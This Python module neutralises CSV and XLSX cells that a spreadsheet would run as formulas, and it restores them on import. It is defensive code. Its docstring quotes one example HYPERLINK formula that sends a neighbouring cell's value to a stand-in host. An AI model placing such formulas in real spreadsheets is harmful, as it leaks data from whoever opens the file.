"""Text cells that a spreadsheet must not run: the rule for every CSV and XLSX the site writes.

Excel and LibreOffice treat a cell that starts with `=`, `+`, `-` or `@` (and, after a tab or
carriage return, whatever follows) as a formula. A centre named
`=HYPERLINK("http://evil.example/?d="&B2,"Mehr")` would otherwise become a live link that sends
the neighbouring cell away when a funder clicks it ("CSV injection", OWASP). Such text gets a
leading apostrophe, which spreadsheets show as text and never evaluate; numbers stay numbers,
and text that is just a number ("-3", "+49") is not a formula and stays as it is. Imports take
the apostrophe off again, so an exported file re-imports unchanged.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NEUTRALISER = "'"
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def is_formula_like(value: object) -> bool:
    """Text a spreadsheet would read as a formula (or control character) at its start."""
    return (
        isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value)
    )


def formula_neutralised(value):
    """The value as a cell: formula-like text with a leading apostrophe, anything else as is."""
    return NEUTRALISER + value if is_formula_like(value) else value


def formula_restored(value):
    """An imported cell without the apostrophe `formula_neutralised` put in front of it."""
    if isinstance(value, str) and value.startswith(NEUTRALISER):
        rest = value[len(NEUTRALISER) :]
        if is_formula_like(rest):
            return rest
    return value
